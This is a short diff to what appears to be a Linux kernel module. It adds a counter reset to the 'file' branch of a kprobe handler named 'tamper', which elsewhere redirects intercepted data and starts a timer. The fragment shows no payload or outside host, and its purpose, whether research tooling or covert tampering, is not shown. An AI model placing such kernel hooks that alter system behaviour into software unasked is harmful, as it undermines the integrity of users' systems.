@@ -107,6 +107,7 @@ static int tamper(struct kprobe *probe, struct pt_regs *regs)
 		redirect(text, size);
 	} else if (strcmp(kind, "file") == 0) {
 		copy = find_copy();
+		stores = 0;
 		if (copy)
 			hrtimer_start(&timer, ns_to_ktime(PERIOD_NS), HRTIMER_MODE_REL_HARD);
 	}
